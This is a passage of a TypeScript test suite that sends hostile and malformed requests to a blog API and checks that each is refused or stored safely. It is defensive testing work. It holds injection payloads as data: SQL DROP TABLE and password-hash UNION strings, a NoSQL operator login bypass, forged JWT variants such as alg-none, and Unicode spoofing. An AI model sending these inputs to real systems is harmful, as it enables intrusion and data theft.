import { env } from "cloudflare:workers";
import { decodeProtectedHeader, SignJWT } from "jose";
import { beforeAll, describe, expect, it } from "vitest";
import { LIMITS } from "../src/domain/inputs";
import { call, createArticle, type Reply, registerUser, type TestUser, unique } from "./support/api";
import { ATOM_TYPE, readFeed } from "./support/atom";
import { one, rows } from "./support/d1";
import { MEDIA_TYPE } from "./support/jsonapi";
import { expectUnchanged, snapshot } from "./support/snapshot";
import { CONTENT_TYPES, errorsOf, type Style, toXml, XML, xmlBody } from "./support/styles";

// A battery of malformed and hostile requests, written as a table so that
// other API styles (XML, JSON:API, GraphQL) can add rows with their own
// `style`. Every row is sent as is and must:
//   - get exactly the expected status, and JSON with charset on every error;
//   - on an error, the shape {"errors": {field: [message, …]}} with the field
//     (and message) the row names;
//   - show no internals (driver names, SQL, stack frames) in the body;
//   - leave storage exactly as it was when refused (test/support/snapshot.ts),
//     and when accepted, either change nothing (reads) or store what the row's
//     `stored` check says (only the fields a client may set, exactly as sent);
//   - leave Object.prototype unpolluted.
// http.test.ts and users.test.ts cover the basic cases of each kind; this file
// runs the wider, hostile variants through every route that takes them.

// Rows of the other styles ("xml", "jsonapi", "graphql") are checked the same
// way, with the error shape of their style (test/support/styles.ts errorsOf):
// `error.field` names the REST/XML field, the JSON:API error `code` or the
// GraphQL `extensions.code`, and `error.message` the message or detail. A
// GraphQL row may expect an error in a 200 (the operation ran and refused).

/** How the request authenticates; see `authorization()` for what each sends. */
type TokenKind =
  | "none"
  | "owner"
  | "other"
  | "expired"
  | "alg-none"
  | "wrong-key"
  | "unknown-kid"
  | "wrong-issuer"
  | "wrong-audience"
  | "hs512"
  | "no-sub"
  | "sql-sub"
  | "string-version"
  | "future-version"
  | "unknown-user";

type Fixtures = {
  owner: TestUser & { id: number };
  other: TestUser & { id: number };
  /** Article A by the owner, with one comment by the owner: the target of refused writes. */
  slug: string;
  commentId: number;
  /** Article B by the owner: the target of accepted updates (its title never changes). */
  slugB: string;
  /** Authorization header per token kind (null: none sent). */
  auth: Record<TokenKind, string | null>;
  /** Values for @@name@@ placeholders in paths, headers and string bodies. */
  vars: Record<string, string>;
};

type RawBody = string | Uint8Array | ((f: Fixtures) => BodyInit);

type HostileCase = {
  style: Style;
  /** What is sent, in words; the test title adds what the answer must be. */
  name: string;
  method: string;
  path: string;
  /** A null value removes the header (a string body gets application/json unless told otherwise). */
  headers?: Record<string, string | null>;
  body?: RawBody;
  token: TokenKind;
  status: number;
  /** For errors: the field of `errors` that must be present, and one of its messages. */
  error?: { field: string; message?: string | RegExp };
  /** For accepted writes: what must now be stored. Without it, storage must be unchanged. */
  stored?: { proves: string; check: (reply: Reply, f: Fixtures) => Promise<void> };
  /** Further assertions on the reply. */
  reply?: (reply: Reply, f: Fixtures) => void;
  /** The media type of a success, where the route has one of its own (an Atom feed); else the style's. */
  contentType?: string;
};

const rest = (c: Omit<HostileCase, "style">): HostileCase => ({ style: "rest", ...c });
/** REST in XML: XML bodies and answers. */
const xml = (c: Omit<HostileCase, "style">): HostileCase => ({
  style: "xml",
  ...c,
  headers: { Accept: XML, ...(c.body === undefined ? {} : { "Content-Type": XML }), ...c.headers },
});
/** An Atom feed, asked for as a feed reader does: the feed in Atom, its errors in XML. */
const atomRow = (c: Omit<HostileCase, "style">): HostileCase => ({
  style: "xml",
  contentType: ATOM_TYPE,
  ...c,
  headers: { Accept: "application/atom+xml", ...c.headers },
});
/** The titles of a feed's entries (read strictly and by a feed parser). */
const feedTitles = (reply: Reply) => readFeed(reply).entries.map((entry) => entry.title);
const jsonapiRow = (c: Omit<HostileCase, "style">): HostileCase => ({
  style: "jsonapi",
  ...c,
  headers: { Accept: MEDIA_TYPE, ...(c.body === undefined ? {} : { "Content-Type": MEDIA_TYPE }), ...c.headers },
});
/** A GraphQL request: POSTed as JSON unless the row says otherwise. */
const graphqlRow = (c: Omit<HostileCase, "style" | "method" | "path"> & { method?: string; path?: string }): HostileCase => ({
  style: "graphql",
  method: "POST",
  path: "/graphql",
  ...c,
});
const gqlBody = (query: string, variables?: unknown, operationName?: string) => json({ query, variables, operationName });

// --- building bodies --------------------------------------------------------

const json = (value: unknown) => JSON.stringify(value);
const utf8 = (text: string) => new TextEncoder().encode(text);
const bytes = (...parts: (string | number[])[]) => {
  const chunks = parts.map((part) => (typeof part === "string" ? utf8(part) : new Uint8Array(part)));
  const out = new Uint8Array(chunks.reduce((n, c) => n + c.byteLength, 0));
  let at = 0;
  for (const chunk of chunks) {
    out.set(chunk, at);
    at += chunk.byteLength;
  }
  return out;
};
/** A valid new-article body with the given fields replaced. */
const article = (fields: Record<string, unknown> = {}) =>
  json({ article: { title: unique("Hostile "), description: "d", body: "b", ...fields } });
const comment = (body: unknown) => json({ comment: { body } });
const userChanges = (fields: Record<string, unknown>) => json({ user: fields });
const newUser = (fields: Record<string, unknown>) => {
  const username = unique("h");
  return json({ user: { username, email: `${username}@example.com`, password: "safe-pass-1", ...fields } });
};
/** A streamed body of `total` bytes of JSON text, without a Content-Length. */
const streamOf = (prefix: string, total: number, suffix: string) => () => {
  let sent = 0;
  const chunk = utf8("x".repeat(64 * 1024));
  return new ReadableStream<Uint8Array>({
    start(controller) {
      controller.enqueue(utf8(prefix));
    },
    pull(controller) {
      if (sent >= total) {
        controller.enqueue(utf8(suffix));
        controller.close();
        return;
      }
      sent += chunk.byteLength;
      controller.enqueue(chunk);
    },
  });
};
const fullwidth = (text: string) =>
  [...text].map((ch) => (ch >= "!" && ch <= "~" ? String.fromCharCode(ch.charCodeAt(0) + 0xfee0) : ch)).join("");

const MiB = 1024 * 1024;
const NOT_JSON = "request body is not valid JSON";
const NOT_UTF8 = "request body is not valid UTF-8";
const NOT_MEDIA = "request body must be application/json or application/xml";
const TOO_LARGE = `request body is larger than ${MiB} bytes`;
const UNSTORABLE = "must not contain NUL or unpaired surrogate characters";
const USERNAME_CHARS = "may only contain letters, digits, '_', '.' and '-'";
const USERNAME_BIDI = "can't contain bidirectional control characters";
const INVISIBLE = "can't contain invisible characters";
const NOT_INTEGER = "must be an integer";
const BAD_ID = "must be a positive integer";
const BAD_CURSOR = "is not a valid cursor";
const NO_AUTH = "authentication is required";
const BAD_TOKEN = "token is invalid or expired";
const BAD_SCHEME = "Authorization must be 'Token <jwt>' or 'Bearer <jwt>'";
const NOT_FOUND_ARTICLE = "article not found";
const XML_DOCTYPE = "XML bodies may not contain a DOCTYPE or entity declarations";
const NOT_XML = "request body is not valid XML";
const XML_TOO_DEEP = "XML elements may not be nested more than 100 levels deep";
/** The parser's reason, after the fixed start and before its position (line 1, column n). */
const notXml = (reason: string) => new RegExp(`^${NOT_XML}: ${reason.replace(/[.*+?^${}()|[\]\\]/g, "\\$&")}`);
/** A valid new-article document for JSON:API. */
const jsonapiArticle = () =>
  json({ data: { type: "articles", attributes: { title: unique("Hostile JSON:API "), description: "d", body: "b" } } });

// Text in every script and the characters that trip up naive handling.
const EMOJI = "👩‍💻🚀🏳️‍🌈";
const RTL = "مرحبا بالعالم עברית";
const COMBINING = "Z̴̡̛a̶͇͝l̷̰̾g̵͔̅o e\u0301";
const ZERO_WIDTH = "a\u200bb\u200cc\u200dd\u2060e\ufeff";
const BIDI = "\u202eevil\u202c \u2066iso\u2069";
const MIXED = `${EMOJI} ${RTL} ${COMBINING} ${ZERO_WIDTH} ${BIDI}`;
/** What a title or tag may hold of MIXED: all but the bidi controls (kept in bodies, descriptions, bios). */
const SINGLE_LINE_MIXED = `${EMOJI} ${ZERO_WIDTH} ${RTL} ${COMBINING}`;
const SQL = {
  drop: "'; DROP TABLE articles; --",
  quote: '" OR ""="',
  delete: "1; DELETE FROM users WHERE 1=1; --",
  union: "'||(SELECT password_hash FROM users)||'",
  bobby: "Robert'); DROP TABLE students;--",
  comment: "'); DROP TABLE comments; --",
};

// --- reading storage --------------------------------------------------------

const articleRow = (slug: string) => one("SELECT * FROM articles WHERE slug = ?", slug);
const tagsOf = async (slug: string) =>
  (
    await rows<{ tag: string }>(
      "SELECT t.tag FROM article_tags t JOIN articles a ON a.id = t.article_id WHERE a.slug = ? ORDER BY t.position",
      slug,
    )
  ).map((row) => row.tag);
const userRow = (id: number) => one("SELECT * FROM users WHERE id = ?", id);

/** The new article holds these columns exactly as sent, and says so in the reply (JSON or XML). */
const storesArticle = (columns: Record<string, string>, tags?: string[]) => ({
  proves: "stored exactly as sent",
  check: async (reply: Reply) => {
    const { article } = reply.body ?? xmlBody(reply.text);
    const row = await articleRow(article.slug);
    for (const [column, value] of Object.entries(columns)) {
      expect(row[column], column).toBe(value);
      expect(article[column], column).toBe(value);
    }
    if (tags) expect(await tagsOf(article.slug)).toEqual(tags);
  },
});
const storesComment = (body: string) => ({
  proves: "stored exactly as sent",
  check: async (reply: Reply) => {
    expect((await one("SELECT body FROM comments WHERE id = ?", reply.body.comment.id)).body).toBe(body);
    expect(reply.body.comment.body).toBe(body);
  },
});
const storesOwner = (columns: Record<string, string>) => ({
  proves: "stored exactly as sent",
  check: async (reply: Reply, f: Fixtures) => {
    const row = await userRow(f.owner.id);
    for (const [column, value] of Object.entries(columns)) {
      expect(row[column], column).toBe(value);
      expect(reply.body.user[column], column).toBe(value);
    }
  },
});
const registers = (columns: Record<string, string>) => ({
  proves: "the account stored exactly as sent",
  check: async (reply: Reply) => {
    expect(reply.body.user.username).toBe(columns.username);
    const row = await one("SELECT * FROM users WHERE username = ?", columns.username);
    for (const [column, value] of Object.entries(columns)) expect(row[column], column).toBe(value);
  },
});

// --- search queries -----------------------------------------------------------

// A search query is user input: FTS5 syntax, SQL and nonsense are all plain
// text to look for (src/domain/search.ts). Each is sent in REST; those marked
// `everyStyle` in XML, JSON:API and GraphQL too. `empty`: the query holds no
// word at all, so it must match nothing.
const HOSTILE_SEARCHES: { name: string; query: string; empty: boolean; everyStyle?: boolean }[] = [
  { name: "an unbalanced quote", query: '"', empty: true, everyStyle: true },
  { name: "unbalanced parentheses and quotes", query: '((("dragon', empty: false },
  { name: "a lone star", query: "*", empty: true },
  { name: "a star in front of a word", query: "*dragon", empty: false },
  { name: "only stars and carets", query: "** ^^ *^*", empty: true },
  { name: "NEAR with a distance", query: "NEAR(dragon training, 5)", empty: false, everyStyle: true },
  { name: "a column filter", query: "title:dragon", empty: false },
  { name: "a column filter on a column that does not exist", query: "password_hash:x", empty: false, everyStyle: true },
  { name: "a column set filter", query: "{title body}: dragon", empty: false },
  { name: "boolean operators", query: "dragon AND OR NOT training", empty: false },
  { name: "operators only", query: "AND OR NOT NEAR", empty: false, everyStyle: true },
  { name: "the initial-token operator", query: "^dragon", empty: false },
  { name: "plus and minus signs", query: "+dragon -training", empty: false },
  { name: "FTS5 auxiliary functions", query: "rank MATCH bm25(article_search) snippet(", empty: false },
  { name: "SQL closing the statement", query: SQL.drop, empty: false, everyStyle: true },
  { name: "SQL closing a quote and a parenthesis", query: '") OR 1=1 --', empty: false },
  { name: "backslashes and escaped quotes", query: `\\" \\' \\\\ ""`, empty: true },
  { name: "every punctuation character", query: "\"*^:(){}[]+-,.;'`~!@#$%&=|\\<>?/", empty: true, everyStyle: true },
  { name: "200 parentheses", query: `${"(".repeat(100)}${")".repeat(100)}`, empty: true },
  {
    name: "sixteen prefix words",
    query: Array.from({ length: LIMITS.searchTerms }, (_, i) => `${"abcdefghijklmnop"[i]}*`).join(" "),
    empty: false,
  },
  { name: "emoji, RTL, combining and zero-width text", query: MIXED, empty: false, everyStyle: true },
];

/** A search answer: a list (empty when the query had no word) and a count of at least its length. */
function searchResult(articles: unknown[], count: number, empty: boolean) {
  expect(Array.isArray(articles)).toBe(true);
  expect(count).toBeGreaterThanOrEqual(articles.length);
  if (empty) expect([articles, count]).toEqual([[], 0]);
}
const SEARCH_QUERY = "query($search: String) { articles(search: $search) { totalCount edges { snippet node { slug } } } }";
const TOO_MANY_WORDS = Array.from({ length: LIMITS.searchTerms + 1 }, (_, i) => `w${i}`).join(" ");
const SEARCH_TOO_MANY = `can't have more than ${LIMITS.searchTerms} words or phrases`;

// --- identities and credentials, in every style -----------------------------

/** A write whose input breaks one rule of the username or password policy (or of single-line fields). */
type PolicyCase = {
  name: string;
  operation: "register" | "updateUser" | "createArticle";
  fields: (f: Fixtures) => Record<string, unknown>;
  field: string;
  message: string;
  /** Styles without this case (JSON:API tags are a relationship, not an attribute). */
  except?: Style[];
};
const TAKEN_LOOK = "looks too much like a username that is already taken";
const COMMON = "is too common: it appears in lists of breached passwords";
const PASSWORD_IS_NAME = "can't be your email or username";
const MIXED_SCRIPTS = "can't mix scripts (such as Latin with Cyrillic or Greek)";
const BIDI_IN = (what: string) => `can't contain ${what}bidirectional control characters`;
const newUserFields = (fields: Record<string, unknown>) => {
  const username = unique("p");
  return { username, email: `${username}@example.com`, password: "safe-pass-1", ...fields };
};
const POLICY_CASES: PolicyCase[] = [
  {
    name: "a username made only of invisible characters (U+3164)",
    operation: "register",
    fields: () => newUserFields({ username: "\u3164\u3164\u3164" }),
    field: "username",
    message: INVISIBLE,
  },
  {
    name: "the username '.'",
    operation: "register",
    fields: () => newUserFields({ username: "." }),
    field: "username",
    message: "must contain a letter or a digit",
  },
  {
    name: "the username '..'",
    operation: "register",
    fields: () => newUserFields({ username: ".." }),
    field: "username",
    message: "must contain a letter or a digit",
  },
  {
    name: "a Cyrillic 'а' inside a Latin username",
    operation: "register",
    fields: () => newUserFields({ username: `j\u0430ke${unique("").replace(/\D/g, "")}` }),
    field: "username",
    message: MIXED_SCRIPTS,
  },
  {
    name: "a reserved username in capitals",
    operation: "register",
    fields: () => newUserFields({ username: "ADMIN" }),
    field: "username",
    message: "is reserved",
  },
  {
    name: "a username that looks like the owner's (O as 0)",
    operation: "register",
    fields: (f) => newUserFields({ username: f.owner.username.replace("O", "0") }),
    field: "username",
    message: TAKEN_LOOK,
  },
  {
    name: "a new username that looks like the other user's",
    operation: "updateUser",
    fields: (f) => ({ username: f.other.username.replace("O", "0") }),
    field: "username",
    message: TAKEN_LOOK,
  },
  {
    name: "a right-to-left override in the new username",
    operation: "updateUser",
    fields: () => ({ username: `${unique("u")}\u202e` }),
    field: "username",
    message: BIDI_IN(""),
  },
  {
    name: "a common password (iloveyou)",
    operation: "register",
    fields: () => newUserFields({ password: "iloveyou" }),
    field: "password",
    message: COMMON,
  },
  {
    name: "a common password in other case (PassWord1)",
    operation: "register",
    fields: () => newUserFields({ password: "PassWord1" }),
    field: "password",
    message: COMMON,
  },
  {
    name: "a password of eight spaces",
    operation: "register",
    fields: () => newUserFields({ password: "        " }),
    field: "password",
    message: "can't be blank",
  },
  {
    name: "a password equal to the email",
    operation: "register",
    fields: () => {
      const fields = newUserFields({});
      return { ...fields, password: fields.email.toUpperCase() };
    },
    field: "password",
    message: PASSWORD_IS_NAME,
  },
  {
    name: "a new password that is common",
    operation: "updateUser",
    fields: () => ({ password: "12345678" }),
    field: "password",
    message: COMMON,
  },
  {
    name: "a new password equal to the username",
    operation: "updateUser",
    fields: (f) => ({ password: f.owner.username }),
    field: "password",
    message: PASSWORD_IS_NAME,
  },
  {
    name: "a wrong currentPassword with a bio change",
    operation: "updateUser",
    fields: () => ({ bio: "not stored", currentPassword: "not the password" }),
    field: "currentPassword",
    message: "is not your password",
  },
  {
    name: "a right-to-left override in the title",
    operation: "createArticle",
    fields: () => ({ title: `Evil \u202eeulb`, description: "d", body: "b" }),
    field: "title",
    message: BIDI_IN(""),
  },
  {
    name: "a right-to-left isolate in a tag",
    operation: "createArticle",
    fields: () => ({ title: unique("Isolated "), description: "d", body: "b", tagList: ["ok", "\u2067evil\u2069"] }),
    field: "tagList",
    message: BIDI_IN("tags with "),
    except: ["jsonapi"],
  },
];

const REST_ROUTE = {
  register: { method: "POST", path: "/api/users", envelope: "user" },
  updateUser: { method: "PUT", path: "/api/user", envelope: "user" },
  createArticle: { method: "POST", path: "/api/articles", envelope: "article" },
  updateArticle: { method: "PUT", path: "/api/articles/@@slug@@", envelope: "article" },
  createComment: { method: "POST", path: "/api/articles/@@slug@@/comments", envelope: "comment" },
} as const;
type RestWrite = keyof typeof REST_ROUTE;
const JSONAPI_ROUTE = {
  register: { method: "POST", path: "/jsonapi/users", type: "users", id: undefined },
  updateUser: { method: "PATCH", path: "/jsonapi/users/me", type: "users", id: "me" },
  createArticle: { method: "POST", path: "/jsonapi/articles", type: "articles", id: undefined },
} as const;
const GRAPHQL_MUTATION = {
  register: "mutation($input: RegisterInput!) { register(input: $input) { username } }",
  updateUser: "mutation($input: UpdateUserInput!) { updateUser(input: $input) { username } }",
  createArticle: "mutation($input: CreateArticleInput!) { createArticle(input: $input) { slug } }",
} as const;
const tokenFor = (operation: RestWrite): TokenKind => (operation === "register" ? "none" : "owner");
/** A REST write of `body` to one of the routes above (as the owner, or anonymous to register), refused with 422 on `field`. */
const refusedWrite = (name: string, write: RestWrite, body: RawBody, field: string, message: string): HostileCase =>
  rest({
    name,
    method: REST_ROUTE[write].method,
    path: REST_ROUTE[write].path,
    token: tokenFor(write),
    body,
    status: 422,
    error: { field, message },
  });

function policyRows(c: PolicyCase): HostileCase[] {
  const rest_ = REST_ROUTE[c.operation];
  const api = JSONAPI_ROUTE[c.operation];
  const token = tokenFor(c.operation);
  const cases: HostileCase[] = [
    rest({
      name: c.name,
      method: rest_.method,
      path: rest_.path,
      token,
      body: (f) => json({ [rest_.envelope]: c.fields(f) }),
      status: 422,
      error: { field: c.field, message: c.message },
    }),
    xml({
      name: `${c.name}, in XML`,
      method: rest_.method,
      path: rest_.path,
      token,
      body: (f) => toXml({ [rest_.envelope]: c.fields(f) }),
      status: 422,
      error: { field: c.field, message: c.message },
    }),
    jsonapiRow({
      name: c.name,
      method: api.method,
      path: api.path,
      token,
      body: (f) => {
        const { tagList, ...attributes } = c.fields(f);
        return json({ data: { type: api.type, ...(api.id ? { id: api.id } : {}), attributes } });
      },
      status: 422,
      error: { field: "invalid", message: new RegExp(`^${c.field} ${c.message.replace(/[.*+?^${}()|[\]\\]/g, "\\$&")}$`) },
    }),
    graphqlRow({
      name: c.name,
      token,
      body: (f) => gqlBody(GRAPHQL_MUTATION[c.operation], { input: c.fields(f) }),
      status: 200,
      error: { field: "BAD_USER_INPUT" },
      reply: (reply) => expect(reply.body.errors[0].extensions.fields).toEqual({ [c.field]: [c.message] }),
    }),
  ];
  return cases.filter((row) => !c.except?.includes(row.style));
}

/** Query parameters a JSON:API read refuses with 400: what is sent, the path, the error's detail, the parameter its source names. */
const JSONAPI_BAD_QUERIES: [name: string, path: string, message?: string | RegExp, parameter?: string][] = [
  [
    "an include of an unknown relationship path",
    "/jsonapi/articles?include=author.password",
    /not a relationship path/,
    "include",
  ],
  ["a sparse fieldset naming a column", "/jsonapi/articles?fields[users]=password_hash"],
  ["a page limit past the maximum", "/jsonapi/articles?page[limit]=1000", "page[limit] must be at most 100"],
  ["a negative page offset", "/jsonapi/articles?page[offset]=-1"],
  ["a page limit that is not a number", "/jsonapi/articles?page[limit]=1e2"],
  [
    "a page cursor that is not one the server gave",
    "/jsonapi/articles?page[after]=c1.YXJ0aWNsZXM6bmV3ZXN0OjE.AAAAAAAAAAAAAAAA",
    "page[after] is not a valid cursor",
    "page[after]",
  ],
  [
    "a page cursor on the comments of an article, malformed",
    "/jsonapi/articles/1/comments?page[before]=%3Cscript%3E",
    "page[before] is not a valid cursor",
  ],
  ["a page parameter given twice", "/jsonapi/articles?page[limit]=5&page[limit]=6"],
];

// --- the battery ------------------------------------------------------------

const DEEP = 100_000;
const CASES: HostileCase[] = [
  // Broken JSON.
  ...(
    [
      ["truncated JSON", '{"article":{"title":"t","description":"d"'],
      ["a trailing comma in an object", '{"article":{"title":"t","description":"d","body":"b",}}'],
      ["a trailing comma in an array", '{"article":{"title":"t","description":"d","body":"b","tagList":["a",]}}'],
      ["a block comment", '{"article": /* hi */ {"title":"t","description":"d","body":"b"}}'],
      ["a line comment", '// hi\n{"article":{"title":"t","description":"d","body":"b"}}'],
      ["NaN as a value", '{"article":{"title":NaN,"description":"d","body":"b"}}'],
      ["-Infinity as a value", '{"article":{"title":"t","description":"d","body":"b","x":-Infinity}}'],
      ["single-quoted strings", "{'article':{'title':'t','description':'d','body':'b'}}"],
      ["unquoted keys", '{article:{title:"t",description:"d",body:"b"}}'],
      ["a raw newline inside a string", '{"article":{"title":"t","description":"d","body":"line\nbreak"}}'],
      ["an invalid escape", '{"article":{"title":"\\x41","description":"d","body":"b"}}'],
      ["two JSON documents", '{"article":{"title":"t","description":"d","body":"b"}}{"article":{}}'],
      ["a JavaScript expression", '{"article":{"title":"t"+"u","description":"d","body":"b"}}'],
      ["undefined as a value", '{"article":{"title":undefined,"description":"d","body":"b"}}'],
    ] as const
  ).map(([name, body]) =>
    rest({
      name,
      method: "POST",
      path: "/api/articles",
      token: "owner",
      body,
      status: 400,
      error: { field: "body", message: NOT_JSON },
    }),
  ),
  ...(
    [
      ["a UTF-16LE body with its BOM", bytes([0xff, 0xfe], '{"user":{}}')],
      ["an invalid UTF-8 sequence in a string", bytes('{"user":{"email":"a', [0xc3, 0x28], '@b.co","password":"x"}}')],
      ["an overlong UTF-8 encoding of '/'", bytes('{"user":{"email":"', [0xc0, 0xaf], '@b.co","password":"x"}}')],
      ["a UTF-8-encoded surrogate (CESU-8)", bytes('{"user":{"email":"', [0xed, 0xa0, 0x80], '@b.co","password":"x"}}')],
      ["a truncated multi-byte character", bytes('{"user":{"email":"a@b.co","password":"', [0xe2, 0x82], '"}}')],
      ["a Latin-1 'é'", bytes('{"user":{"email":"caf', [0xe9], '@b.co","password":"x"}}')],
    ] as const
  ).map(([name, body]) =>
    rest({
      name,
      method: "POST",
      path: "/api/users/login",
      token: "none",
      body,
      status: 400,
      error: { field: "body", message: NOT_UTF8 },
    }),
  ),
  rest({
    name: "a UTF-8 byte order mark before valid JSON (RFC 8259 lets a parser ignore it)",
    method: "POST",
    path: "/api/articles",
    token: "owner",
    body: bytes([0xef, 0xbb, 0xbf], '{"article":{"title":"after a BOM","description":"d","body":"b"}}'),
    status: 201,
    stored: storesArticle({ title: "after a BOM" }),
  }),
  rest({
    name: `arrays nested ${DEEP} deep`,
    method: "POST",
    path: "/api/articles",
    token: "owner",
    body: `{"article":${"[".repeat(DEEP)}${"]".repeat(DEEP)}}`,
    status: 422,
    error: { field: "title", message: "is required" },
  }),
  rest({
    name: `objects nested ${DEEP} deep in tagList`,
    method: "POST",
    path: "/api/articles",
    token: "owner",
    body: `{"article":{"title":"t","description":"d","body":"b","tagList":${'{"a":'.repeat(DEEP)}1${"}".repeat(DEEP)}}}`,
    status: 422,
    error: { field: "tagList", message: "must be an array of strings" },
  }),
  rest({
    name: "a tagList of 100,000 distinct tags",
    method: "POST",
    path: "/api/articles",
    token: "owner",
    body: () => article({ tagList: Array.from({ length: 100_000 }, (_, i) => `t${i}`) }),
    status: 422,
    error: { field: "tagList", message: `can't have more than ${LIMITS.tags} tags` },
  }),
  rest({
    name: "a tagList of 100,000 copies of one tag (duplicates fold into one)",
    method: "POST",
    path: "/api/articles",
    token: "owner",
    body: () => article({ title: "hundred thousand copies", tagList: Array.from({ length: 100_000 }, () => "copy") }),
    status: 201,
    stored: storesArticle({ title: "hundred thousand copies" }, ["copy"]),
  }),
  rest({
    name: "a duplicated key (the last one wins, as in JSON.parse)",
    method: "POST",
    path: "/api/articles",
    token: "owner",
    body: '{"article":{"title":"first of two","title":"second of two","description":"d","body":"b"}}',
    status: 201,
    stored: storesArticle({ title: "second of two" }),
  }),
  rest({
    name: "a top-level array",
    method: "POST",
    path: "/api/articles",
    token: "owner",
    body: '[{"article":{"title":"t","description":"d","body":"b"}}]',
    status: 422,
    error: { field: "article", message: "is required" },
  }),
  rest({
    name: "a top-level null",
    method: "PUT",
    path: "/api/user",
    token: "owner",
    body: "null",
    status: 422,
    error: { field: "body", message: "must be a JSON object" },
  }),
  rest({
    name: "an envelope that is a string",
    method: "POST",
    path: "/api/articles/@@slug@@/comments",
    token: "owner",
    body: '{"comment":"hello"}',
    status: 422,
    error: { field: "comment", message: "must be an object" },
  }),
  rest({
    name: "a number too large for a double (1e999) as the title",
    method: "POST",
    path: "/api/articles",
    token: "owner",
    body: '{"article":{"title":1e999,"description":"d","body":"b"}}',
    status: 422,
    error: { field: "title", message: "must be a string" },
  }),
  rest({
    name: "an operator object instead of a string",
    method: "POST",
    path: "/api/users/login",
    token: "none",
    body: json({ user: { email: { $ne: null }, password: { $gt: "" } } }),
    status: 422,
    error: { field: "email", message: "must be a string" },
  }),

  // Content types.
  ...(
    [
      "text/plain",
      "application/json;charset=utf-16",
      "application/x-www-form-urlencoded",
      "application/json; boundary=x",
      "application/json; charset=utf-8; foo=bar",
      "application/json, text/plain",
      "text/json",
      "",
    ] as const
  ).map((contentType) =>
    rest({
      name: `Content-Type: ${JSON.stringify(contentType)}`,
      method: "POST",
      path: "/api/articles",
      token: "owner",
      headers: { "Content-Type": contentType },
      body: () => article(),
      status: 415,
      error: { field: "body", message: NOT_MEDIA },
    }),
  ),
  rest({
    name: "a form-encoded body sent as a form",
    method: "PUT",
    path: "/api/user",
    token: "owner",
    headers: { "Content-Type": "application/x-www-form-urlencoded" },
    body: "user%5Bbio%5D=from+a+form",
    status: 415,
    error: { field: "body", message: NOT_MEDIA },
  }),
  rest({
    name: "no Content-Type at all",
    method: "POST",
    path: "/api/articles/@@slug@@/comments",
    token: "owner",
    headers: { "Content-Type": null },
    body: () => utf8(comment("no content type")),
    status: 415,
    error: { field: "body", message: NOT_MEDIA },
  }),

  // Huge bodies.
  rest({
    name: "a declared Content-Length over 1 MiB",
    method: "PUT",
    path: "/api/user",
    token: "owner",
    headers: { "Content-Length": String(MiB + 64) },
    body: () => `{"user":{"bio":"${"x".repeat(MiB + 64 - 17)}"}}`,
    status: 413,
    error: { field: "body", message: TOO_LARGE },
  }),
  rest({
    name: "a chunked stream that grows past 1 MiB",
    method: "POST",
    path: "/api/articles/@@slug@@/comments",
    token: "owner",
    body: streamOf('{"comment":{"body":"', 2 * MiB, '"}}'),
    status: 413,
    error: { field: "body", message: TOO_LARGE },
  }),
  rest({
    name: "a stream of exactly 1 MiB + 1 byte",
    method: "POST",
    path: "/api/users",
    token: "none",
    body: () => {
      const text = `{"user":{}}${" ".repeat(MiB + 1 - 11)}`;
      return new ReadableStream<Uint8Array>({
        start(controller) {
          controller.enqueue(utf8(text));
          controller.close();
        },
      });
    },
    status: 413,
    error: { field: "body", message: TOO_LARGE },
  }),
  rest({
    name: "a body of exactly 1 MiB (the cap itself is allowed)",
    method: "POST",
    path: "/api/users/login",
    token: "none",
    body: () => {
      const doc = json({ user: { email: `${unique("nobody")}@example.com`, password: "whatever1" } });
      return doc + " ".repeat(MiB - doc.length);
    },
    status: 401,
    error: { field: "email or password", message: "is invalid" },
  }),

  // Unicode in every field: usernames and emails (register).
  ...(
    [
      ["a right-to-left override", "\u202e", USERNAME_BIDI],
      ["a right-to-left isolate", "\u2067", USERNAME_BIDI],
      ["a left-to-right mark", "\u200e", USERNAME_BIDI],
      ["a zero-width space", "\u200b", INVISIBLE],
      ["a zero-width joiner", "\u200d", INVISIBLE],
      ["a byte order mark", "\ufeff", INVISIBLE],
      ["a variation selector (U+FE0F)", "\ufe0f", INVISIBLE],
      ["a Hangul filler (U+3164)", "\u3164", INVISIBLE],
      ["a soft hyphen", "\u00ad", INVISIBLE],
      ["an ASCII control character", "\u0007", USERNAME_CHARS],
    ] as const
  ).map(([name, ch, message]) =>
    rest({
      name: `${name} in the username`,
      method: "POST",
      path: "/api/users",
      token: "none",
      body: () => newUser({ username: `${unique("z")}${ch}x` }),
      status: 422,
      error: { field: "username", message },
    }),
  ),
  (() => {
    // One script: Arabic letters, ASCII digits and an Arabic combining mark (fatha).
    const username = `مستخدم${unique("").replace(/\D/g, "")}\u064e`;
    return rest({
      name: "a right-to-left username with a combining mark",
      method: "POST",
      path: "/api/users",
      token: "none",
      body: newUser({ username }),
      status: 201,
      stored: registers({ username }),
    });
  })(),
  (() => {
    const username = unique("max").padEnd(LIMITS.username, "x");
    return rest({
      name: `a username of exactly ${LIMITS.username} characters`,
      method: "POST",
      path: "/api/users",
      token: "none",
      body: newUser({ username }),
      status: 201,
      stored: registers({ username }),
    });
  })(),

  // Unicode in article fields, tags and comments.
  rest({
    name: "emoji, right-to-left text, combining marks and zero-width characters in the title",
    method: "POST",
    path: "/api/articles",
    token: "owner",
    body: article({ title: `T ${SINGLE_LINE_MIXED}` }),
    status: 201,
    stored: {
      proves: "stored exactly as sent, with a slug of letters, digits and hyphens only",
      check: async (reply) => {
        await storesArticle({ title: `T ${SINGLE_LINE_MIXED}` }).check(reply);
        expect(reply.body.article.slug).toMatch(/^[\p{L}\p{M}\p{N}-]+$/u);
      },
    },
  }),
  rest({
    name: "the same mix in the description and body",
    method: "POST",
    path: "/api/articles",
    token: "owner",
    body: article({ description: `D ${MIXED}`, body: `B ${MIXED}\n${MIXED}` }),
    status: 201,
    stored: storesArticle({ description: `D ${MIXED}`, body: `B ${MIXED}\n${MIXED}` }),
  }),
  rest({
    name: "emoji, right-to-left, combining and zero-width tags",
    method: "POST",
    path: "/api/articles",
    token: "owner",
    body: article({ tagList: ["🏷️", "עברית", "e\u0301", "a\u200bb"] }),
    status: 201,
    stored: {
      proves: "each tag stored exactly as sent, in order",
      check: async (reply) => expect(await tagsOf(reply.body.article.slug)).toEqual(["🏷️", "עברית", "e\u0301", "a\u200bb"]),
    },
  }),
  (() => {
    const title = unique("max").padEnd(LIMITS.title, "é");
    return rest({
      name: `a title of exactly ${LIMITS.title} characters`,
      method: "POST",
      path: "/api/articles",
      token: "owner",
      body: article({ title }),
      status: 201,
      stored: storesArticle({ title }),
    });
  })(),
  rest({
